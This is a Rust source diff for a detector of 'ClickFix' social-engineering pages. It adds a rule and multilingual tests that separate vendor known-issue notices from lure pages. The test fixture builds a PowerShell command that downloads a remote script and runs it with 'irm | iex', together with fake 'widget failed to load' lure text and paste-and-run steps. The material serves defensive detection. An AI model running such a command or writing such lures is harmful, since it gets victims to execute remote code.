@@ -1405,6 +1405,7 @@ impl PageHits {
                         | Cat::PageFailure
                         | Cat::InstallDocs
                         | Cat::Troubleshooting
+                        | Cat::Scope
                         | Cat::Conditional
                         | Cat::Victim
                         | Cat::Error
@@ -1668,6 +1669,10 @@ impl PageHits {
             || self
                 .of(Cat::Troubleshooting)
                 .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH)
+            // Others' machines it happened on, in its clause ("did not load for some customers",
+            // "bei einigen Kunden nicht richtig geladen"): a vendor's report; a kit's widget fails
+            // now, on the reader's screen (review 37 CX37-H1).
+            || self.of(Cat::Scope).any(|s| s.start >= from && s.end <= to)
     }
 
     /// Install words in the page's own prose, not in a file or path name (a lure's `curl
@@ -4829,7 +4834,11 @@ mod tests {
             ("https://help.pinwheelcrm.example/articles/dashboard", "https://app.pinwheelcrm.example/", "'PinwheelCRM' failed to load for some accounts after the 8.0 update."),
         ] {
             assert!(!run(help, text), "{text}");
-            assert!(run(other, text), "{text}");
+            // (Others' machines named in the clause describe it anywhere: review 37 CX37-H1.)
+            let claim = [" for some users", " bei einigen Kunden", " en algunos equipos"]
+                .iter()
+                .fold(text.to_string(), |t, s| t.replace(s, ""));
+            assert!(run(other, &claim), "{claim}");
         }
         // A kit's widget on a help section, or the site's name outside one, claims it.
         assert!(run(
@@ -4914,5 +4923,107 @@ mod tests {
         for path in ["", "/download", "/static/releases", "/releases/2.4"] {
             assert_eq!(run(path), None, "{path}");
         }
+    }
+
+    #[test]
+    fn clickfix37_a_pages_own_failure_in_more_languages() {
+        // Issue 9 (invented sites and scripts): a kit on a broken-into site claims the page's
+        // widget failed to load in the page's language, as in English; a vendor's known issue
+        // (its heading) or a help section's page naming its product describes the same failure.
+        let steps = "Windows + R, Ctrl + V, Enter.";
+        let run = |url: &str, text: &str| {
+            let host = host_of(url);
+            let c = format!("powershell -c \"irm https://{host}/assets/fix.ps1 | iex\"");
+            reasons(&snap_of(url, "", &format!("{text}\n{steps}\n{c}"), &c)).is_some()
+        };
+        for (known, claim, scope) in [
+            (
+                "Bekanntes Problem",
+                "Der Terminkalender wurde nicht richtig geladen.",
+                "auf einigen PCs",
+            ),
+            (
+                "Problema conocido",
+                "El calendario de citas no se cargó correctamente.",
+                "en algunos equipos",
+            ),
+            (
+                "Problema noto",
+                "Il calendario non è stato caricato correttamente.",
+                "su alcuni PC",
+            ),
+            (
+                "Bekend probleem",
+                "De afsprakenagenda is niet goed geladen.",
+                "bij sommige klanten",
+            ),
+            (
+                "Problema conhecido",
+                "O calendário de marcações não carregou corretamente.",
+                "em alguns computadores",
+            ),
+            (
+                "Problème connu",
+                "Le calendrier ne s'affiche pas correctement.",
+                "sur certains ordinateurs",
+            ),
+            (
+                "Känt problem",
+                "Bokningskalendern laddades inte korrekt.",
+                "hos vissa kunder",
+            ),
+            (
+                "Kendt problem",
+                "Bookingkalenderen blev ikke indlæst korrekt.",
+                "hos nogle kunder",
+            ),
+            (
+                "Kjent problem",
+                "Bookingkalenderen ble ikke lastet riktig.",
+                "hos noen kunder",
+            ),
+            (
+                "Známý problém",
+                "Rezervační kalendář se nenačetl správně.",
+                "na některých počítačích",
+            ),
+            (
+                "Известная проблема",
+                "Календарь записи не загрузился корректно.",
+                "у некоторых клиентов",
+            ),
+            (
+                "Bilinen sorun",
+                "Randevu takvimi düzgün yüklenmedi.",
+                "bazı bilgisayarlarda",
+            ),
+        ] {
+            assert!(run("https://www.praxis-eichhof.test/", claim), "{claim}");
+            assert!(
+                !run(
+                    "https://www.kassaflow.test/kb/42",
+                    &format!("{known}: {claim}")
+                ),
+                "{known}"
+            );
+            // Others' machines it happened on, in the failure's clause (review 37 CX37-H1).
+            assert!(
+                !run(
+                    "https://www.kassaflow.test/news/42",
+                    &format!("{} {scope}.", claim.trim_end_matches('.'))
+                ),
+                "{scope}"
+            );
+            let named = claim.replacen(' ', " Kassaflow ", 1);
+            assert!(
+                !run("https://support.kassaflow.test/a/42", &named),
+                "{named}"
+            );
+        }
+        // Others named apart from where it failed ("Some users see this:") is still a claim.
+        assert!(run(
+            "https://www.praxis-eichhof.test/",
+            "Some users see this: the booking calendar did not load correctly. How to fix:"
+        ));
     }
 }
